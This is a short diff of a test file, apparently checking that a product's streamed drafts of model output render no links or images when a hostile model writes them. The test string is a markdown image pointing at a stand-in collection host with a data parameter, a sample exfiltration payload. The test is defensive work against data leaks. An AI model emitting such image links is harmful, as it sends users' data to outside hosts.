@@ -139,7 +139,7 @@ describe('a hostile model in the teams of the product [A2] [E7]', () => {
   );
 
   // The draft streams what a model writes before it is checked; the message that replaces it holds no link.
-  it.fails('shows no link or image in a draft', async () => {
+  it('shows no link or image in a draft', async () => {
     const session = await openSession(world, 'consult');
     const stream = await openStream(world.self, session.conversation);
     const text = 'See ![chart](https://collect.example/p.png?d=x) now.';
